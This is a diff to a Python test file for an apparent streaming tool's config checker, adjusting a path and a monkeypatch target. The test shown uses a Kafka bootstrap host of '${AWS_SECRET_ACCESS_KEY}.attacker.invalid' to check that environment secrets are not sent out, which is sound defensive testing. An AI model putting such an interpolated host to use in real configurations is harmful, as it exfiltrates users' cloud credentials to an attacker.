@@ -20,7 +20,7 @@ from pipelines import Data
 from pipelines.errors import DefinitionError
 from streamer.definition.nocode import ENV_VARIABLE, FILES_VARIABLE, VARIABLE, NoCode, code_in
 
-DIGITS = Path(__file__).parents[2] / "examples" / "digits"
+DIGITS = Path(__file__).parents[3] / "examples" / "digits"
 SECRET = "AKIAXXXXXXXXEXAMPLE0"
 MEMORY = {"type": "memory", "topic": "t"}
 
@@ -46,7 +46,7 @@ def test_a_secret_of_the_environment_is_sent_to_nobody(
     tmp_path: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     asked: list[str] = []
-    monkeypatch.setattr("streamer.cli.reach.topics_of", lambda config: asked.append(config.bootstrap) or {"t": 1})
+    monkeypatch.setattr("connectors.kafka.browser.topics_of", lambda config: asked.append(config.bootstrap) or {"t": 1})
     source = {"type": "kafka", "bootstrap": "${AWS_SECRET_ACCESS_KEY}.attacker.invalid:9092", "topics": "t"}
     file = written(tmp_path, source=source)
     ended = cli("check", file, "--no-code", "--connect")
